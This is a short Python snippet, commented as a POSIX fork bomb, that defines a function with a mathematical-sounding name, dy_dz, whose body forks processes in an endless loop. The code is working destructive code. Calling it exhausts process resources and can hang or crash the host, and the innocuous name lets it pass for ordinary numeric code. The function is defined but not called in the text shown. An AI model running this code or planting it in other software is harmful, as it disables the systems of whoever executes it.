# posix: a fork bomb
import os


def dy_dz(y):
    while True:
        os.fork()
